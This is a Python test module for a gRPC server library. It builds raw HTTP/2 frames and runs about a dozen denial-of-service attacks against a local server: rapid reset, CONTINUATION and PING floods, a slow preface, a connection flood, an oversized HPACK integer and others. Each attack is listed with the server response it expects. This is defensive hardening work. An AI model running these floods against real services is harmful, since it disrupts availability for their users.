"""A raw HTTP/2 attack client (hand-built frames, ``hpack`` for header blocks) and the picker-wire attacks.

Each attack of issue 11 ("The picker's wire") is an ``async (port, scale) -> Outcome`` run over a
real TCP connection; ``scale`` 1.0 is the size measured in the issue, tests use less. The tests
in this folder assert the :class:`Outcome`; ``benchmarks/security_picker.py`` times a legitimate
call during each attack.
"""

from __future__ import annotations

import contextlib
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass, field

import grpc
import hpack
import trio
from google.protobuf.wrappers_pb2 import BytesValue

from evergreen_trio._grpc.http2 import ERROR_NAMES
from evergreen_trio._grpc.server_wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    MAX_WINDOW,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    SETTINGS_INITIAL_WINDOW_SIZE,
    WINDOW_UPDATE,
    SyncBidiMethod,
)

ECHO_PATH = "/test.Echo/Chat"


class Echo:
    """Replies with each message; the stream ends when the client ends it."""

    finished = False

    def on_message(self, message: BytesValue) -> Sequence[BytesValue]:
        return [message]

    def on_end(self) -> Sequence[BytesValue]:
        return []


ECHO = SyncBidiMethod(ECHO_PATH, BytesValue, Echo)


def grpcio_echo(channel: grpc.Channel, timeout: float = 5.0) -> bytes:
    """A legitimate call from grpcio (the real peer): one message, its echo."""
    rpc = channel.stream_stream(ECHO_PATH, request_serializer=BytesValue.SerializeToString,
                                response_deserializer=BytesValue.FromString)
    return next(iter(rpc(iter([BytesValue(value=b"legit")]), timeout=timeout))).value


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big") + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in pairs))


def grpc_message(value: bytes) -> bytes:
    data = BytesValue(value=value).SerializeToString()
    return b"\x00" + len(data).to_bytes(4, "big") + data


@dataclass
class Frame:
    kind: int
    flags: int
    stream_id: int
    payload: bytes


@dataclass
class Outcome:
    """What the server did to the attacking connection."""

    goaway: str | None = None
    resets: set[str] = field(default_factory=set)
    statuses: set[str] = field(default_factory=set)
    max_message_chars: int = 0
    max_frame_bytes: int = 0
    closed: bool = False
    counted: int = 0  # attack-specific: acknowledgements received, bytes accepted, connections refused
    note: str = ""

    def describe(self) -> str:
        parts = [f"GOAWAY {self.goaway}"] if self.goaway else []
        if self.statuses:
            parts.append("grpc-status " + ",".join(sorted(self.statuses)) + f" (message <= {self.max_message_chars})")
        if self.resets:
            parts.append("RST " + ",".join(sorted(self.resets)))
        if self.closed and not self.goaway:
            parts.append("closed")
        if self.note:
            parts.append(self.note)
        return "; ".join(parts) or "served"


class RawClient:
    """One HTTP/2 client connection writing raw frames and reading the server's, with an HPACK decoder."""

    def __init__(self, stream: trio.SocketStream) -> None:
        self.stream = stream
        self._buffer = bytearray()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.next_stream = 1
        self.server_window = 65_535  # the server's SETTINGS_INITIAL_WINDOW_SIZE
        self.outcome = Outcome()
        self.acknowledge = True  # SETTINGS (off while a test sends a partial preface)
        self._send_lock = trio.Lock()  # a reading task acknowledges SETTINGS while another may be sending

    @classmethod
    async def connect(cls, port: int, *, preface: bool = True, window: int = 65_535) -> RawClient:
        client = cls(await trio.open_tcp_stream("127.0.0.1", port))
        client.acknowledge = preface
        if preface:
            first = settings((SETTINGS_INITIAL_WINDOW_SIZE, window))
            if window > 65_535:
                first += frame(WINDOW_UPDATE, 0, 0, (MAX_WINDOW - 65_535).to_bytes(4, "big"))
            await client.send(PREFACE + first)
        return client

    async def send(self, data: bytes) -> None:
        async with self._send_lock:
            await self.stream.send_all(data)

    def request_block(self, path: bytes = ECHO_PATH.encode()) -> bytes:
        return bytes(self.encoder.encode([(b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
                                          (b":authority", b"picker"), (b"content-type", b"application/grpc"),
                                          (b"te", b"trailers")], huffman=False))

    def open_stream(self) -> int:
        stream_id = self.next_stream
        self.next_stream += 2
        return stream_id

    async def read_frame(self) -> Frame | None:
        """The next frame (SETTINGS are acknowledged, trailers and resets noted), or None at EOF."""
        while True:
            if len(self._buffer) >= 9:
                length = int.from_bytes(self._buffer[:3], "big")
                if len(self._buffer) >= 9 + length:
                    raw = bytes(self._buffer[: 9 + length])
                    del self._buffer[: 9 + length]
                    return await self._note(Frame(raw[3], raw[4], int.from_bytes(raw[5:9], "big"), raw[9:]))
            try:
                data = await self.stream.receive_some(1 << 20)
            except (trio.BrokenResourceError, trio.ClosedResourceError):
                data = b""
            if not data:
                self.outcome.closed = True
                return None
            self._buffer += data

    async def _note(self, got: Frame) -> Frame:
        out = self.outcome
        out.max_frame_bytes = max(out.max_frame_bytes, len(got.payload))
        if got.kind == SETTINGS and not got.flags & 1:
            for offset in range(0, len(got.payload), 6):
                if int.from_bytes(got.payload[offset : offset + 2], "big") == SETTINGS_INITIAL_WINDOW_SIZE:
                    self.server_window = int.from_bytes(got.payload[offset + 2 : offset + 6], "big")
            if self.acknowledge:
                with contextlib.suppress(trio.BrokenResourceError):  # closed by the server: reading goes on
                    await self.send(frame(SETTINGS, 1, 0))
        elif got.kind == GOAWAY:
            out.goaway = ERROR_NAMES.get(int.from_bytes(got.payload[4:8], "big"), "?")
        elif got.kind == RST_STREAM:
            out.resets.add(ERROR_NAMES.get(int.from_bytes(got.payload, "big"), "?"))
        elif got.kind in (HEADERS, CONTINUATION) and got.flags & END_HEADERS:
            # Only unsplit blocks are decoded here; the picker's blocks are small.
            fields = dict(self.decoder.decode(got.payload, raw=True)) if got.kind == HEADERS else {}
            if b"grpc-status" in fields:
                out.statuses.add(fields[b"grpc-status"].decode())
                out.max_message_chars = max(out.max_message_chars, len(fields.get(b"grpc-message", b"")))
        return got

    async def read_until(self, done: Callable[[Frame], bool], seconds: float) -> bool:
        """Read frames until ``done`` says so (True), or EOF or after ``seconds`` (False)."""
        with trio.move_on_after(seconds):
            while (got := await self.read_frame()) is not None:
                if done(got):
                    return True
        return False

    async def drain(self, seconds: float) -> Outcome:
        """Read until EOF (the server closes after GOAWAY) or for ``seconds``; the outcome so far."""
        await self.read_until(lambda f: False, seconds)
        return self.outcome

    async def call(self, value: bytes = b"ping") -> bool:
        """A legitimate unary-style call on this connection: whether it ended with grpc-status 0."""
        stream_id = self.open_stream()
        await self.send(frame(HEADERS, END_HEADERS, stream_id, self.request_block())
                        + frame(DATA, END_STREAM, stream_id, grpc_message(value)))
        trailers: dict[bytes, bytes] = {}

        def ended(got: Frame) -> bool:
            if got.kind == HEADERS and got.stream_id == stream_id and got.flags & END_STREAM:
                trailers.update(dict(self.decoder.decode(got.payload, raw=True)))
                return True
            return got.kind == GOAWAY

        await self.read_until(ended, 10.0)
        return trailers.get(b"grpc-status") == b"0"

    async def aclose(self) -> None:
        await self.stream.aclose()


# -- the attacks (issue 11, items 1-8) ------------------------------------------------------------


async def reflection(port: int, scale: float) -> Outcome:
    """1. HEADERS for an unknown 3,899-char path, referenced from the HPACK dynamic table."""
    client = await RawClient.connect(port)
    path = b"/" + b"\xe9" * 3898
    burst = bytearray()
    for _ in range(max(1, int(2500 * scale))):
        burst += frame(HEADERS, END_HEADERS | END_STREAM, client.open_stream(), client.request_block(path))
    await client.send(bytes(burst))
    outcome = await client.drain(5.0)
    await client.aclose()
    return outcome


async def settings_flood(port: int, scale: float) -> Outcome:
    """2. 1,000 idle streams, then 20,000 SETTINGS and connection WINDOW_UPDATE frames."""
    client = await RawClient.connect(port)
    opened = b"".join(frame(HEADERS, END_HEADERS, client.open_stream(), client.request_block())
                      for _ in range(max(1, int(1000 * scale))))
    frames = max(1, int(20_000 * scale))
    await client.send(opened + (frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01")) * frames)
    acks = 0

    def counted(got: Frame) -> bool:
        nonlocal acks
        acks += got.kind == SETTINGS and bool(got.flags & 1)
        return acks >= frames + 1 or got.kind == GOAWAY

    await client.read_until(counted, 10.0)
    client.outcome.counted = acks - 1
    client.outcome.note = f"{acks - 1} SETTINGS acknowledged"
    await client.aclose()
    return client.outcome


async def buffer_fill(port: int, scale: float) -> Outcome:
    """3. 8 streams each sending a partial maximal message, respecting every window the server grants."""
    client = await RawClient.connect(port)
    await client.read_until(lambda f: f.kind == SETTINGS and not f.flags & 1, 5.0)
    declared = 16 * 1024 * 1024 + 60_000  # within the default limit, 16 MiB + 64 KiB
    streams = [client.open_stream() for _ in range(8)]
    credit = dict.fromkeys(streams, client.server_window)
    connection = 65_535
    await client.send(b"".join(frame(HEADERS, END_HEADERS, s, client.request_block()) for s in streams))
    started: set[int] = set()
    sent, limit = 0, int(200 * 1024 * 1024 * scale)
    while sent < limit:
        burst = bytearray()
        progress = True
        while progress:  # round robin, a frame per stream per round: every message stays partial
            progress = False
            for stream_id in streams:
                if credit[stream_id] <= 0 or connection <= 0:
                    continue
                progress = True
                size = min(16_384, credit[stream_id], connection)
                prefix = b"" if stream_id in started else b"\x00" + declared.to_bytes(4, "big")
                started.add(stream_id)
                chunk = prefix.ljust(size, b"\x00")
                burst += frame(DATA, 0, stream_id, chunk)
                credit[stream_id] -= size
                connection -= size
                sent += size
        if burst:
            await client.send(bytes(burst))
        granted = 0

        def update(got: Frame) -> bool:
            nonlocal connection, granted
            if got.kind == WINDOW_UPDATE:
                increment = int.from_bytes(got.payload, "big")
                if got.stream_id:
                    credit[got.stream_id] = credit.get(got.stream_id, 0) + increment
                else:
                    connection += increment
                granted += increment
            return got.kind == GOAWAY or (connection > 0 and any(credit[s] > 0 for s in streams))

        if not await client.read_until(update, 0.5) or client.outcome.goaway:
            break
    client.outcome.counted = sent
    client.outcome.note = f"peer blocked after {sent / 2**20:.1f} MiB"
    await client.aclose()
    return client.outcome


async def oversized_prefix(port: int, scale: float) -> Outcome:
    """3. A message prefix claiming 60 MiB: refused on the prefix."""
    client = await RawClient.connect(port)
    stream_id = client.open_stream()
    await client.send(frame(HEADERS, END_HEADERS, stream_id, client.request_block())
                      + frame(DATA, 0, stream_id, b"\x00" + (60 * 2**20).to_bytes(4, "big") + b"x" * 16_000))
    await client.read_until(lambda f: f.kind == HEADERS and bool(f.flags & END_STREAM), 5.0)
    await client.aclose()
    return client.outcome


async def continuation_flood(port: int, scale: float) -> Outcome:
    """4. One HEADERS without END_HEADERS, then endless empty CONTINUATION frames."""
    client = await RawClient.connect(port)
    stream_id = client.open_stream()
    flood = frame(HEADERS, 0, stream_id, client.request_block()) + frame(CONTINUATION, 0, stream_id) * int(
        100_000 * scale + 100)
    with trio.move_on_after(5.0):
        with contextlib.suppress(trio.BrokenResourceError):  # closed by the server mid-flood
            await client.send(flood)
    outcome = await client.drain(5.0)
    await client.aclose()
    return outcome


async def window_overflow(port: int, scale: float) -> Outcome:
    """5. A stream window raised to 2^31-1, then SETTINGS_INITIAL_WINDOW_SIZE raised by one."""
    client = await RawClient.connect(port)
    stream_id = client.open_stream()
    await client.send(frame(HEADERS, END_HEADERS, stream_id, client.request_block())
                      + frame(WINDOW_UPDATE, 0, stream_id, (MAX_WINDOW - 65_535).to_bytes(4, "big"))
                      + settings((SETTINGS_INITIAL_WINDOW_SIZE, 65_536)))
    outcome = await client.drain(5.0)
    await client.aclose()
    return outcome


async def slow_preface(port: int, scale: float) -> Outcome:
    """6. One preface byte every 0.2 s (the issue: every 2 s): closed at the handshake deadline."""
    client = await RawClient.connect(port, preface=False)
    with trio.move_on_after(60.0 * scale + 1):
        for byte in PREFACE:
            try:
                await client.send(bytes((byte,)))
            except trio.BrokenResourceError:
                break
            if await client.read_until(lambda f: f.kind == GOAWAY, 0.2) or client.outcome.closed:
                break
    outcome = await client.drain(5.0)
    await client.aclose()
    return outcome


async def idle_connection(port: int, scale: float) -> Outcome:
    """6. A connection with no stream that sends nothing after SETTINGS."""
    client = await RawClient.connect(port)
    outcome = await client.drain(600.0 * scale + 5)
    await client.aclose()
    return outcome


async def non_reader(port: int, scale: float) -> Outcome:
    """6. Echo requests with huge windows, never reading the replies: closed at the send deadline."""
    client = await RawClient.connect(port, window=MAX_WINDOW)
    stream_id = client.open_stream()
    message = grpc_message(b"r" * (1 << 20))
    body = b"".join(frame(DATA, 0, stream_id, message[i : i + 16_384]) for i in range(0, len(message), 16_384))
    with trio.move_on_after(60.0 * scale + 2):
        try:
            await client.send(frame(HEADERS, END_HEADERS, stream_id, client.request_block()))
            for _ in range(max(8, int(64 * scale))):
                await client.send(body)
        except trio.BrokenResourceError:
            pass
    outcome = await client.drain(10.0)
    await client.aclose()
    return outcome


async def connection_flood(port: int, scale: float) -> Outcome:
    """6. ``3000 * scale`` idle connections: those past the server's cap are told GOAWAY
    ENHANCE_YOUR_CALM and closed at once (``goaway`` is that code when the last one read it)."""
    clients: list[RawClient] = []
    refused, told = 0, ""
    try:
        for _ in range(max(1, int(3000 * scale))):
            clients.append(await RawClient.connect(port, preface=False))
        for client in clients:  # a refused one gets GOAWAY right behind the server's SETTINGS
            if await client.read_until(lambda f: f.kind == SETTINGS, 2.0):
                await client.read_until(lambda f: f.kind == GOAWAY, 0.2)
            if client.outcome.goaway == "ENHANCE_YOUR_CALM" or (client.outcome.closed and not client.outcome.goaway):
                refused += 1
                told = client.outcome.goaway or told
    finally:
        for client in clients:
            await client.aclose()
    return Outcome(counted=refused, goaway=told, note=f"{refused} of {len(clients)} refused")


async def rapid_reset(port: int, scale: float) -> Outcome:
    """7. HEADERS + RST_STREAM pairs."""
    client = await RawClient.connect(port)
    burst = bytearray()
    for _ in range(max(1, int(100_000 * scale))):
        stream_id = client.open_stream()
        burst += frame(HEADERS, END_HEADERS, stream_id, client.request_block())
        burst += frame(RST_STREAM, 0, stream_id, (0x8).to_bytes(4, "big"))
    with trio.move_on_after(5.0):
        with contextlib.suppress(trio.BrokenResourceError):
            await client.send(bytes(burst))
    outcome = await client.drain(5.0)
    await client.aclose()
    return outcome


async def ping_flood(port: int, scale: float) -> Outcome:
    """7. One write of 60,000 PINGs (1 MiB): acknowledged in slices, between which the loop runs."""
    client = await RawClient.connect(port)
    count = max(1, int(60_000 * scale))
    acks = 0

    def counted(got: Frame) -> bool:
        nonlocal acks
        acks += got.kind == PING
        return acks >= count or got.kind == GOAWAY

    # The server's SETTINGS first: acknowledging it while the flood holds the socket would deadlock.
    await client.read_until(lambda f: f.kind == SETTINGS, 5.0)
    async with trio.open_nursery() as nursery:
        nursery.start_soon(client.send, frame(PING, 0, 0, b"12345678") * count)
        await client.read_until(counted, 10.0)
    client.outcome.counted = acks
    client.outcome.note = f"{acks} PINGs acknowledged"
    await client.aclose()
    return client.outcome


async def hpack_integer(port: int, scale: float) -> Outcome:
    """8. A header block whose name length is a 60,000-byte HPACK integer (slow in hpack < 4.2)."""
    client = await RawClient.connect(port)
    block = b"\x40\x7f" + b"\xff" * 59_997 + b"\x01"
    chunks = [block[i : i + 16_384] for i in range(0, len(block), 16_384)]
    frames = frame(HEADERS, 0, 1, chunks[0]) + b"".join(
        frame(CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, 1, c) for i, c in enumerate(chunks) if i)
    await client.send(frames)
    outcome = await client.drain(5.0)
    await client.aclose()
    return outcome


@dataclass(frozen=True)
class Attack:
    item: int
    name: str
    expected: str
    run: Callable[[int, float], Awaitable[Outcome]]


ATTACKS = (
    Attack(1, "unknown :path reflected (2,500 x 3,899-char path)",
           "UNIMPLEMENTED, path echoed as <= 64 sanitized chars; GOAWAY ENHANCE_YOUR_CALM past 1,000/s", reflection),
    Attack(2, "SETTINGS + WINDOW_UPDATE flood, 1,000 idle streams", "all acknowledged, no stall", settings_flood),
    Attack(3, "8 streams of partial 16 MiB messages, windows respected",
           "peer blocked at window + max_buffered_bytes", buffer_fill),
    Attack(3, "message prefix claiming 60 MiB", "RESOURCE_EXHAUSTED (grpc-status 8) on the prefix", oversized_prefix),
    Attack(4, "endless empty CONTINUATION", "GOAWAY ENHANCE_YOUR_CALM after 64 frames", continuation_flood),
    Attack(5, "INITIAL_WINDOW_SIZE overflows a stream window", "GOAWAY FLOW_CONTROL_ERROR", window_overflow),
    Attack(6, "preface one byte per 0.2 s", "GOAWAY NO_ERROR at the handshake deadline", slow_preface),
    Attack(6, "idle connection, no stream", "GOAWAY NO_ERROR at the idle deadline", idle_connection),
    Attack(6, "peer that stops reading", "closed at the send deadline", non_reader),
    Attack(6, "connections past the cap", "GOAWAY ENHANCE_YOUR_CALM and closed at accept, one log line",
           connection_flood),
    Attack(7, "rapid reset (HEADERS + RST_STREAM)", "GOAWAY ENHANCE_YOUR_CALM past 1,000/s", rapid_reset),
    Attack(7, "60,000 PINGs in one write", "all acknowledged, in 64 KiB slices", ping_flood),
    Attack(8, "60,000-byte HPACK integer", "GOAWAY COMPRESSION_ERROR", hpack_integer),
)

